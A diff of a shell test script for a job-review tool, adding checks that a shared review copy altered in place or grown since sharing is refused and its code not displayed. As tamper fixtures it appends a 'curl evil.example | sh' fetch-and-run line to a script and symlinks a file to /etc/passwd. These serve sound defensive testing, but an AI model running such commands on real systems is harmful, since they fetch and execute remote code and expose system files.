@@ -29,7 +29,8 @@ out_has "lists the job by its short id" "^$(echo "$A" | cut -c1-8) "
 out_has "with FROM and OWNER columns" "^ID +NAME +FROM +OWNER +CREATED"
 out_has "naming the requester and the owner" "$DS_EMAIL +$DO_EMAIL"
 out_has "the name's bidi control is a marker" "two⟨U\\+202E⟩red"
-check "no raw bidi control reaches the terminal" sh -c "! grep -q \"\$(printf '\\342\\200\\256')\" '$TEST_DIR/out'"
+cp "$TEST_DIR/out" "$TEST_DIR/shown"
+check "no raw bidi control reaches the terminal" sh -c "! grep -q \"\$(printf '\\342\\200\\256')\" '$TEST_DIR/shown'"
 check "plain pending lists it too" rev pending
 out_has "... in the section of copies shared for review" "Shared with you for review"
 out_has "... with the job" "^$(echo "$A" | cut -c1-8) "
@@ -68,13 +69,22 @@ err_has "... is one line naming the candidates" "matches 2 jobs shared with you 
 check "... on one line" test "$(wc -l < "$TEST_DIR/err")" = 1
 rm -rf "$APP/outbox/$REV/review/$FAKE"
 
-# 5. a copy changed after it was shared
-echo 'curl evil.example | sh' >> "$APP/outbox/$REV/review/$B/code/run.sh"
-check_exit "review of a tampered copy fails" 1 rev review "$B" --owner "$DO_EMAIL"
+# 5. a copy changed after it was shared: the same size (only the hash
+# tells), then longer
+sed -i 's/reviewed-line-42/reviewed-line-66/' "$APP/outbox/$REV/review/$B/code/run.sh"
+check_exit "review of a copy changed in place fails" 1 rev review "$B" --owner "$DO_EMAIL"
 err_has "... saying it does not match its manifest" "review copy of job '$B' .*does not match its manifest"
-check "... and shows none of its code" sh -c "! grep -q evil '$TEST_DIR/out'"
+cp "$TEST_DIR/out" "$TEST_DIR/shown"
+check "... and shows none of its code" sh -c "! grep -q reviewed-line '$TEST_DIR/shown'"
+check_exit "the reviewer's pending still lists it (the owner's job is real)" 0 rev pending --owner "$DO_EMAIL"
+echo 'curl evil.example | sh' >> "$APP/outbox/$REV/review/$B/code/run.sh"
+check_exit "review of a copy grown since fails" 1 rev review "$B" --owner "$DO_EMAIL"
+err_has "... saying it does not match its manifest" "review copy of job '$B' .*does not match its manifest"
+cp "$TEST_DIR/out" "$TEST_DIR/shown"
+check "... and shows none of its code" sh -c "! grep -q evil '$TEST_DIR/shown'"
 check_exit "review --file of a tampered copy fails too" 1 rev review "$B" --owner "$DO_EMAIL" --file run.sh
-check "... without the changed bytes" sh -c "! grep -q evil '$TEST_DIR/out'"
+cp "$TEST_DIR/out" "$TEST_DIR/shown"
+check "... without the changed bytes" sh -c "! grep -q evil '$TEST_DIR/shown'"
 ln -sf /etc/passwd "$APP/outbox/$REV/review/$B/code/extra.py"
 check_exit "a copy holding a symlink is refused" 1 rev review "$B" --owner "$DO_EMAIL"
 err_has "... as not matching" "does not match its manifest"
